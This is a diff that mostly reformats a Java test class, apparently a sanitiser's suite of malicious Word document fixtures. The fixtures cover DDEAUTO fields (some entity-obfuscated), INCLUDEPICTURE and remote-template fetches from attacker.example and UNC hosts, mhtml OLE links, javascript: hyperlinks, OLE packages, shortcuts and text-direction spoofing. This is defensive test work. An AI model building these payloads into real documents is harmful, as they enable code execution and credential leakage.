@@ -86,7 +86,12 @@ final class UnlistedAttacks {
   }
 
   private void fields() {
-    add(9, "DDEAUTO in a footnote", REFUSE, "field-dde", () -> clean().footnotes(note(dde())).bytes());
+    add(
+        9,
+        "DDEAUTO in a footnote",
+        REFUSE,
+        "field-dde",
+        () -> clean().footnotes(note(dde())).bytes());
     add(
         9,
         "DDEAUTO in an endnote",
@@ -158,7 +163,8 @@ final class UnlistedAttacks {
         () ->
             clean(
                     "<w:tbl><w:tr><w:tc>"
-                        + para("<w:fldSimple w:instr=\" ddeauto cmd \">" + r("x") + "</w:fldSimple>")
+                        + para(
+                            "<w:fldSimple w:instr=\" ddeauto cmd \">" + r("x") + "</w:fldSimple>")
                         + "</w:tc></w:tr></w:tbl>")
                 .bytes());
     add(
@@ -189,12 +195,7 @@ final class UnlistedAttacks {
         REFUSE,
         "field-dde",
         () -> clean(para(begin() + says(" &#x44;&#68;E&#65;UTO cmd") + end())).bytes());
-    add(
-        9,
-        "DDEAUTO under Strict",
-        REFUSE,
-        "field-dde",
-        () -> clean(dde()).strict().bytes());
+    add(9, "DDEAUTO under Strict", REFUSE, "field-dde", () -> clean(dde()).strict().bytes());
     add(
         9,
         "DDEAUTO in a part nobody relates to",
@@ -241,35 +242,46 @@ final class UnlistedAttacks {
         "INCLUDEPICTURE with a switch before its address",
         REFUSE,
         "field-fetch",
-        () -> clean(para(begin() + says(" INCLUDEPICTURE \\* MERGEFORMAT \\d " + HTTP + " ") + end())).bytes());
+        () ->
+            clean(para(begin() + says(" INCLUDEPICTURE \\* MERGEFORMAT \\d " + HTTP + " ") + end()))
+                .bytes());
     add(
         10,
         "INCLUDEPICTURE of single quotation marks",
         REFUSE,
         "field-fetch",
-        () -> clean(para(begin() + says(" INCLUDEPICTURE 'http://attacker.example/x' ") + end())).bytes());
+        () ->
+            clean(para(begin() + says(" INCLUDEPICTURE 'http://attacker.example/x' ") + end()))
+                .bytes());
     add(
         10,
         "IMPORT from a folder of the web",
         REFUSE,
         "field-fetch",
-        () -> clean(para(begin() + says(" IMPORT \\\\\\\\host@SSL\\\\DavWWWRoot\\\\a.png ") + end())).bytes());
+        () ->
+            clean(para(begin() + says(" IMPORT \\\\\\\\host@SSL\\\\DavWWWRoot\\\\a.png ") + end()))
+                .bytes());
     add(
         10,
         "a link in a field to another machine",
         TELL,
         "link-removed",
-        () -> clean(para(begin() + says(" HYPERLINK \\l x \"\\\\\\\\host\\\\a\" ") + end())).bytes());
+        () ->
+            clean(para(begin() + says(" HYPERLINK \\l x \"\\\\\\\\host\\\\a\" ") + end())).bytes());
   }
 
   private void relations() {
-    for (String type : List.of("oleObject", "frame", "subDocument", "aFChunk", "attachedTemplate")) {
+    for (String type :
+        List.of("oleObject", "frame", "subDocument", "aFChunk", "attachedTemplate")) {
       add(
           type.equals("attachedTemplate") ? 7 : 6,
           "an outside " + type + " in the vocabulary of Strict",
           REFUSE,
           type.equals("attachedTemplate") ? "remote-template" : "outside-source",
-          () -> clean().part("word/_rels/document.xml.rels", rels(rel(STRICT + type, HTTP, "External"))).bytes());
+          () ->
+              clean()
+                  .part("word/_rels/document.xml.rels", rels(rel(STRICT + type, HTTP, "External")))
+                  .bytes());
     }
     add(
         6,
@@ -282,7 +294,10 @@ final class UnlistedAttacks {
                     "_rels/.rels",
                     rels(
                         "<Relationship Id=\"a\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"word/document.xml\"/>"
-                            + rel("http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument", HTTP, "External")))
+                            + rel(
+                                "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument",
+                                HTTP,
+                                "External")))
                 .bytes());
     add(
         6,
@@ -298,7 +313,9 @@ final class UnlistedAttacks {
         () ->
             clean()
                 .header(1, p("x"))
-                .part("word/_rels/header1.xml.rels", rels(rel("http://x/oleObject", "//host/share/x", "External")))
+                .part(
+                    "word/_rels/header1.xml.rels",
+                    rels(rel("http://x/oleObject", "//host/share/x", "External")))
                 .bytes());
     add(
         6,
@@ -311,7 +328,13 @@ final class UnlistedAttacks {
         "an address of mhtml",
         REFUSE,
         "outside-source",
-        () -> clean().outside("x", "oleObject", "mhtml:http://attacker.example/x!x-usc:http://attacker.example/x").bytes());
+        () ->
+            clean()
+                .outside(
+                    "x",
+                    "oleObject",
+                    "mhtml:http://attacker.example/x!x-usc:http://attacker.example/x")
+                .bytes());
     add(
         6,
         "a video on the web, by its page",
@@ -351,7 +374,13 @@ final class UnlistedAttacks {
         () ->
             clean()
                 .settings("<w:attachedTemplate r:id=\"x\"/>")
-                .part("word/_rels/settings.xml.rels", rels(rel(STRICT + "attachedTemplate", "https://attacker.example/a.dotm", "External")))
+                .part(
+                    "word/_rels/settings.xml.rels",
+                    rels(
+                        rel(
+                            STRICT + "attachedTemplate",
+                            "https://attacker.example/a.dotm",
+                            "External")))
                 .strict()
                 .bytes());
     add(
@@ -362,7 +391,13 @@ final class UnlistedAttacks {
         () ->
             clean()
                 .settings("<w:attachedTemplate r:id=\"x\"/>")
-                .part("word/_rels/settings.xml.rels", rels(rel("http://x/attachedTemplate", "file:///\\\\host@80\\a.dotm", "External")))
+                .part(
+                    "word/_rels/settings.xml.rels",
+                    rels(
+                        rel(
+                            "http://x/attachedTemplate",
+                            "file:///\\\\host@80\\a.dotm",
+                            "External")))
                 .bytes());
     add(
         14,
@@ -371,10 +406,17 @@ final class UnlistedAttacks {
         "metadata",
         () ->
             clean()
-                .part("docProps/app.xml", "<Properties xmlns=\"http://schemas.openxmlformats.org/officeDocument/2006/extended-properties\"><HyperlinkBase>\\\\host\\share</HyperlinkBase></Properties>")
-                .part("_rels/.rels", rels(
+                .part(
+                    "docProps/app.xml",
+                    "<Properties xmlns=\"http://schemas.openxmlformats.org/officeDocument/2006/extended-properties\"><HyperlinkBase>\\\\host\\share</HyperlinkBase></Properties>")
+                .part(
+                    "_rels/.rels",
+                    rels(
                         "<Relationship Id=\"a\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"word/document.xml\"/>"
-                            + rel("http://schemas.openxmlformats.org/officeDocument/2006/relationships/extended-properties", "docProps/app.xml", "")))
+                            + rel(
+                                "http://schemas.openxmlformats.org/officeDocument/2006/relationships/extended-properties",
+                                "docProps/app.xml",
+                                "")))
                 .bytes());
     add(
         13,
@@ -460,7 +502,11 @@ final class UnlistedAttacks {
         ASK,
         "link-dangerous",
         () ->
-            clean(para("<w:hyperlink w:anchor=\"javascript:alert(1)\">" + r("here") + "</w:hyperlink>"))
+            clean(
+                    para(
+                        "<w:hyperlink w:anchor=\"javascript:alert(1)\">"
+                            + r("here")
+                            + "</w:hyperlink>"))
                 .bytes());
     add(
         12,
@@ -508,7 +554,8 @@ final class UnlistedAttacks {
         "macros by their content alone",
         REFUSE,
         "embedded-object",
-        () -> clean().part("word/theme/theme7.xml", ZipBytes.latin(OLE + "\0".repeat(600))).bytes());
+        () ->
+            clean().part("word/theme/theme7.xml", ZipBytes.latin(OLE + "\0".repeat(600))).bytes());
     add(
         8,
         "macros by a content type alone",
@@ -526,14 +573,19 @@ final class UnlistedAttacks {
         "a template with macros renamed",
         REFUSE,
         "macro",
-        () -> clean().mainType("application/vnd.ms-word.template.macroEnabledTemplate.main+xml").bytes());
+        () ->
+            clean()
+                .mainType("application/vnd.ms-word.template.macroEnabledTemplate.main+xml")
+                .bytes());
     add(
         8,
         "an object without a relation",
         REFUSE,
         "embedded-object",
         () ->
-            clean(para("<w:r><w:object><o:OLEObject Type=\"Link\" ProgID=\"htmlfile\" r:id=\"none\"/></w:object></w:r>"))
+            clean(
+                    para(
+                        "<w:r><w:object><o:OLEObject Type=\"Link\" ProgID=\"htmlfile\" r:id=\"none\"/></w:object></w:r>"))
                 .bytes());
     add(
         8,
@@ -542,14 +594,22 @@ final class UnlistedAttacks {
         "embedded-object",
         () ->
             clean()
-                .header(1, para("<w:r><w:object><o:OLEObject ProgID=\"Package\" r:id=\"o\"/></w:object></w:r>"))
+                .header(
+                    1,
+                    para(
+                        "<w:r><w:object><o:OLEObject ProgID=\"Package\" r:id=\"o\"/></w:object></w:r>"))
                 .bytes());
     add(
         8,
         "a shortcut to a program",
         REFUSE,
         "foreign-content",
-        () -> clean().part("word/media/a.lnk", ZipBytes.latin("L\0\0\0\u0001\u0014\u0002\0\0\0\0\0\u00C0\0\0\0\0\0\0F")).bytes());
+        () ->
+            clean()
+                .part(
+                    "word/media/a.lnk",
+                    ZipBytes.latin("L\0\0\0\u0001\u0014\u0002\0\0\0\0\0\u00C0\0\0\0\0\0\0F"))
+                .bytes());
     add(
         8,
         "a script for Windows",
@@ -569,8 +629,16 @@ final class UnlistedAttacks {
         "custom-data",
         () ->
             clean()
-                .part("word/customizations.xml", "<wne:tcg xmlns:wne=\"http://schemas.microsoft.com/office/word/2006/wordml\"><wne:keymaps><wne:keymap wne:kcmPrimary=\"0241\"><wne:macro wne:macroName=\"X\"/></wne:keymap></wne:keymaps></wne:tcg>")
-                .part("word/_rels/document.xml.rels", rels(rel("http://schemas.microsoft.com/office/2006/relationships/keyMapCustomizations", "customizations.xml", "")))
+                .part(
+                    "word/customizations.xml",
+                    "<wne:tcg xmlns:wne=\"http://schemas.microsoft.com/office/word/2006/wordml\"><wne:keymaps><wne:keymap wne:kcmPrimary=\"0241\"><wne:macro wne:macroName=\"X\"/></wne:keymap></wne:keymaps></wne:tcg>")
+                .part(
+                    "word/_rels/document.xml.rels",
+                    rels(
+                        rel(
+                            "http://schemas.microsoft.com/office/2006/relationships/keyMapCustomizations",
+                            "customizations.xml",
+                            "")))
                 .bytes());
     add(
         14,
@@ -580,7 +648,9 @@ final class UnlistedAttacks {
         () ->
             clean()
                 .settings("<w:mailMerge><w:dataSource r:id=\"x\"/></w:mailMerge>")
-                .part("word/_rels/settings.xml.rels", rels(rel(STRICT + "mailMergeSource", "file://host/x.odc", "External")))
+                .part(
+                    "word/_rels/settings.xml.rels",
+                    rels(rel(STRICT + "mailMergeSource", "file://host/x.odc", "External")))
                 .strict()
                 .bytes());
     add(
@@ -601,7 +671,9 @@ final class UnlistedAttacks {
         "words turned around by Word's own element",
         REFUSE,
         "bidi-override",
-        () -> clean(para(r("We do ") + "<w:bdo w:val=\"rtl\">" + r("ton") + "</w:bdo>" + r(" agree"))).bytes());
+        () ->
+            clean(para(r("We do ") + "<w:bdo w:val=\"rtl\">" + r("ton") + "</w:bdo>" + r(" agree")))
+                .bytes());
     add(
         24,
         "an override in a picture's description",
@@ -634,13 +706,19 @@ final class UnlistedAttacks {
         "letters of mathematics as words",
         ASK,
         "look-alike",
-        () -> clean(p("The \uD835\uDC12\uD835\uDC1E\uD835\uDC1C\uD835\uDC2E\uD835\uDC2B\uD835\uDC22\uD835\uDC2D\uD835\uDC32 Council")).bytes());
+        () ->
+            clean(
+                    p(
+                        "The \uD835\uDC12\uD835\uDC1E\uD835\uDC1C\uD835\uDC2E\uD835\uDC2B\uD835\uDC22\uD835\uDC2D\uD835\uDC32 Council"))
+                .bytes());
     add(
         25,
         "signs stacked over a letter",
         ASK,
         "stacked-signs",
-        () -> clean(p("Coun" + "\u0336\u0321\u0489\u035C\u0360\u0358\u0341".repeat(4) + "cil")).bytes());
+        () ->
+            clean(p("Coun" + "\u0336\u0321\u0489\u035C\u0360\u0358\u0341".repeat(4) + "cil"))
+                .bytes());
     add(
         25,
         "a Hangul filler as a blank",
@@ -681,14 +759,21 @@ final class UnlistedAttacks {
                 .part(
                     "docProps/core.xml",
                     "<cp:coreProperties xmlns:cp=\"http://schemas.openxmlformats.org/package/2006/metadata/core-properties\" xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><dc:title>a\u202Eb</dc:title></cp:coreProperties>")
-                .part("_rels/.rels", rels(
+                .part(
+                    "_rels/.rels",
+                    rels(
                         "<Relationship Id=\"a\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"word/document.xml\"/>"
-                            + rel("http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties", "docProps/core.xml", "")))
+                            + rel(
+                                "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties",
+                                "docProps/core.xml",
+                                "")))
                 .bytes());
   }
 
-  static final byte[] PNG =java.util.Base64.getDecoder().decode(
-      "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==");
+  static final byte[] PNG =
+      java.util.Base64.getDecoder()
+          .decode(
+              "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==");
 
   private static String pictured(String description) {
     return para(
